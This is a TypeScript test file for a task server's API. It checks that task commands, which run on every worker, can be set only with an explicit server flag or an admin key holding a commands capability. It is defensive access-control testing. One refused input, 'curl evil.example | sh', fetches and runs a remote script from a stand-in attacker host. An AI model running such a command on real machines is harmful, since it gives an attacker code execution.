import { afterEach, describe, expect, it } from 'vitest';
import type { Task } from '../../src/core/types.js';
import { auth, expectError, type TestServer, testServer } from './helpers.js';

/**
 * A task's `command` is run by every worker that runs task commands: setting one is running code
 * on those machines. The API lets a caller do it only with an explicit permission.
 */

let t: TestServer;
afterEach(async () => {
  await t?.close();
});

const create = (body: object, headers: Record<string, string> = {}) =>
  t.inject({ method: 'POST', url: '/api/v1/tasks', payload: body, headers });
const patch = (id: number, body: object, headers: Record<string, string> = {}) =>
  t.inject({ method: 'PATCH', url: `/api/v1/tasks/${id}`, payload: body, headers });
const whoami = async (headers: Record<string, string> = {}) =>
  ((await t.inject({ method: 'GET', url: '/api/v1/whoami', headers })).json() as { commands: boolean }).commands;

describe('setting task commands', () => {
  it('open mode refuses commands unless the server allows them, and writes nothing', async () => {
    t = await testServer();
    const plain = (await create({ title: 'no command' })).json() as Task;
    const before = await t.snapshot();
    const refused = await create({ title: 'run me', command: 'curl evil.example | sh' });
    expectError(refused, 403, 'commands_not_allowed');
    expect((refused.json() as { error: { message: string; details: { field: string } } }).error).toMatchObject({
      message: expect.stringContaining('can run code on every worker'),
      details: { field: 'command' },
    });
    expectError(await patch(plain.id, { command: 'id' }), 403, 'commands_not_allowed');
    // A swarm's merge step is a command too.
    expectError(
      await create({ title: 'merge', swarm: 2, merge: 'command', mergeCommand: 'sh merge.sh' }),
      403,
      'commands_not_allowed',
    );
    const dump = { ...(await t.baton.exportData()), tasks: [{ ...plain, command: 'id' }] };
    expectError(await t.inject({ method: 'POST', url: '/api/v1/import', payload: dump }), 403, 'commands_not_allowed');
    expect(await t.snapshot()).toBe(before);
    expect(await whoami()).toBe(false);
    // Clearing a command runs nothing, and is allowed.
    expect((await patch(plain.id, { command: null })).statusCode).toBe(200);
  });

  it('serve --allow-commands lets whoever may create tasks set them', async () => {
    t = await testServer({ allowCommands: true });
    const created = await create({ title: 'build', command: 'make test' });
    expect(created.statusCode, created.body).toBe(201);
    expect((created.json() as Task).command).toBe('make test');
    expect((await patch((created.json() as Task).id, { command: 'make lint' })).json()).toMatchObject({ command: 'make lint' });
    expect(await whoami()).toBe(true);
  });

  it('with keys: only an admin key with the commands capability may', async () => {
    t = await testServer();
    const admin = auth(await t.key('admin'));
    const runner = auth(await t.key('admin', undefined, ['commands']));
    const before = await t.snapshot();
    expectError(await create({ title: 'x', command: 'id' }, admin), 403, 'commands_not_allowed');
    expect(await t.snapshot()).toBe(before);
    const created = await create({ title: 'x', command: 'id' }, runner);
    expect(created.statusCode, created.body).toBe(201);
    expect(await whoami(admin)).toBe(false);
    expect(await whoami(runner)).toBe(true);
    const me = (await t.inject({ method: 'GET', url: '/api/v1/whoami', headers: runner })).json();
    expect(me).toMatchObject({ role: 'admin', key: { capabilities: ['commands'] } });
  });

  it('gives the capability to admin keys only, through the API as through the app', async () => {
    t = await testServer();
    const admin = auth(await t.key('admin', undefined, ['commands']));
    const keys = (body: object) => t.inject({ method: 'POST', url: '/api/v1/keys', payload: body, headers: admin });
    expectError(await keys({ role: 'viewer', capabilities: ['commands'] }), 400, 'invalid_argument');
    expectError(await keys({ role: 'worker', workerId: 'w1', capabilities: ['commands'] }), 400, 'invalid_argument');
    expectError(await keys({ role: 'admin', capabilities: ['root'] }), 400, 'invalid_argument');
    const made = await keys({ role: 'admin', capabilities: ['commands'] });
    expect(made.json()).toMatchObject({ record: { role: 'admin', capabilities: ['commands'] } });
    await expect(t.baton.createKey({ role: 'viewer', capabilities: ['commands'] })).rejects.toMatchObject({
      code: 'invalid_argument',
    });
  });
});
